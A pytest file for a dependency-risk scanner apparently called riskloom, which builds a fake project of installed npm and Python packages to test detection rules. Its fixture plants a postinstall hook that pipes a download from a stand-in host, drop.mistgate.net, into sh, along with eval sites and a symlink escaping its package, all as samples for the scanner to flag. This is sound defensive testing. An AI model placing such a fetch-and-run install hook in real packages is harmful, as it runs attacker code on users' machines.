import json
import os

import pytest

from riskloom import cli
from riskloom.sources import installed, online

PAYLOAD = "const own = require('os');\n" + "\n".join(
    f"function step{i}(a, b) {{ if (a > b) {{ for (let k = 0; k < a; k++) {{ b += k * a; }} return call{i}(a + b, [a, b]); }} return {{ x: a, y: b, z: a * b - {i} }}; }}" for i in range(12)
)


def write(root, path, text):
    full = os.path.join(root, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb" if isinstance(text, bytes) else "w") as f:
        f.write(text)


@pytest.fixture
def project(tmp_path):
    """A project with installed npm and Python packages on disk."""
    root = str(tmp_path / "shop")
    names = ["tide-clock", "moss-garden", "quiet-bin", "@oak/leaf"]
    lock = {"lockfileVersion": 3, "packages": {"": {"dependencies": {"tide-clock": "1"}}} | {f"node_modules/{n}": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/x.tgz", "integrity": "sha512-x"} for n in names}}
    write(root, "package-lock.json", json.dumps(lock))
    for n, owner in (("tide-clock", "ann"), ("moss-garden", "bo")):
        write(root, f"node_modules/{n}/package.json", json.dumps({"scripts": {"postinstall": "node ./setup.js && curl https://drop.mistgate.net/p | sh", "test": "x"}, "repository": {"url": f"https://github.com/{owner}/{n}"}}))
        write(root, f"node_modules/{n}/setup.js", PAYLOAD.replace("own", f"own_{owner}"))
    write(root, "node_modules/quiet-bin/package.json", json.dumps({"scripts": {"install": "node ../tide-clock/setup.js; node out.js; node bin.js"}, "homepage": "https://quiet.example"}))
    write(root, "node_modules/quiet-bin/bin.js", b"\x00\xff\xfe" * 5000)
    write(root, "node_modules/quiet-bin/lib/a.js", "eval(x); eval(y); new Function(z)")
    write(root, "node_modules/quiet-bin/node_modules/deep.js", "eval(x); eval(y)")
    write(root, "node_modules/@oak/leaf/package.json", "{ not json")
    write(str(tmp_path), "secret.js", "eval(secret); eval(more)")
    os.symlink(str(tmp_path / "secret.js"), os.path.join(root, "node_modules/quiet-bin/out.js"))
    write(root, "requirements.txt", "My_Lib==1.0\n")
    write(root, "venv/lib/python3.12/site-packages/my_lib/core.py", "exec(a + b)\nexec(c + d)\n")
    return root


def found(capsys):
    doc = json.loads(capsys.readouterr().out)
    return doc, {r["name"]: {f["rule"]: f["evidence"] for f in r["findings"]} for r in doc["results"]}


def test_scan_reads_installed_copies(spark, project, capsys):
    assert cli.main(["scan", project, "--format", "json"], spark) == 1
    doc, got = found(capsys)
    for n in ("tide-clock", "moss-garden"):
        assert got[n]["HEM201"][0].startswith("postinstall: node ./setup.js") and "HEM202" in got[n]
        assert "HEM801" in got[n] and "HEM802" in got[n] and "drop.mistgate.net" in got[n]["HEM802"][0]
    assert got["quiet-bin"]["HEM302"] == ["lib/a.js: 3 dynamic-execution sites"]
    assert "HEM801" not in got["quiet-bin"] and "HEM802" not in got["quiet-bin"]
    assert got["My_Lib"]["HEM302"] == ["core.py: 2 dynamic-execution sites"]
    assert len(doc["campaigns"]) == 1 and doc["campaigns"][0]["members"] == ["npm:moss-garden@1.0.0", "npm:tide-clock@1.0.0"]
    assert not doc["warnings"]


def test_runs_without_correlation_and_without_installed_packages(spark, project, tmp_path, capsys):
    cli.main(["scan", project, "--format", "json", "--no-correlate"], spark)
    doc, got = found(capsys)
    assert not doc["campaigns"] and "HEM801" not in got["tide-clock"] and "HEM302" in got["quiet-bin"]
    bare = str(tmp_path / "bare")
    write(bare, "package.json", json.dumps({"dependencies": {"left-pad": "1.3.0"}}))
    cli.main(["scan", bare], spark)
    assert "No installed packages were found" in capsys.readouterr().out


def hook_files(spark, folder, commands):
    hooks = spark.createDataFrame([("p", folder, i, c) for i, c in enumerate(commands)], "pkg_id string, source_dir string, turn int, command string")
    return sorted(r["rel"] for r in installed.hook_texts(hooks).collect())


def test_hook_files_stay_inside_their_package(spark, project):
    folder, clock = (os.path.join(project, "node_modules", n) for n in ("quiet-bin", "tide-clock"))
    commands = ["node ../tide-clock/setup.js", "node out.js", "node bin.js", "node lib/a.js && node ./lib/a.js", "node https://x.example/y.js"]
    assert hook_files(spark, folder, commands) == ["bin.js", "lib/a.js"]
    assert [rel for rel, _ in installed.code_files(folder)] == ["bin.js", "lib/a.js"]
    assert hook_files(spark, clock, ["node ./setup"]) == []
    assert hook_files(spark, clock, ["node setup.js", "node ./setup.js", "node x/../setup.js"]) == ["setup.js"]


def test_online_run_asks_the_client(spark, project, capsys):
    packument = {"time": {"0.9.0": "2020-01-01T00:00:00Z", "1.0.0": "2026-01-09T00:00:00Z"}, "versions": {"0.9.0": {"_npmUser": {"name": "ann"}, "dist": {"unpackedSize": 30_000}}, "1.0.0": {"_npmUser": {"name": "mallory"}, "dist": {"unpackedSize": 300_000}, "deprecated": "gone"}}}

    def client(url, body):
        if url == online.OSV_BATCH:
            return "ok", json.dumps({"results": [{"vulns": [{"id": "MAL-7"}, {"id": "GHSA-2"}]} if q["package"]["name"] == "tide-clock" else {} for q in json.loads(body)["queries"]]})
        if url == online.NPM + "tide-clock":
            return "ok", json.dumps(packument)
        if url == online.NPM_DOWNLOADS + "tide-clock":
            return "ok", json.dumps({"downloads": 3})
        return ("failed" if "moss-garden" in url else "absent"), None

    cli.main(["scan", project, "--online", "--format", "json", "--fresh-days", "100000"], spark, client)
    doc, got = found(capsys)
    assert {"HEM501", "HEM502", "HEM503", "HEM504", "HEM505", "HEM506", "HEM601", "HEM701", "HEM702"} <= set(got["tide-clock"])
    assert "HEM507" in got["quiet-bin"] and "HEM507" not in got["moss-garden"]
    assert doc["malware"] == ["tide-clock@1.0.0"] and any("npm:moss-garden" in w for w in doc["warnings"])


def test_wrong_use_and_explanations(spark, tmp_path, capsys):
    assert cli.main(["check", "npm:"], spark) == 2
    assert cli.main(["explain", "nope"]) == 2 and cli.main(["explain", "hem502"]) == 0
    assert "Published by a different account" in capsys.readouterr().out
    assert cli.main(["scan", str(tmp_path / "nowhere")], spark) == 2
    for wrong in (["scan", "--fresh-days", "-1"], ["history", "--limit", "0"]):
        with pytest.raises(SystemExit):
            cli.main(wrong)
    assert cli.main(["init", str(tmp_path)]) == 0
    with open(tmp_path / ".github/workflows/riskloom.yml") as f:
        text = f.read()
    assert "diff --since" in text and "scan ." in text and "history . --online" in text and "schedule:" in text
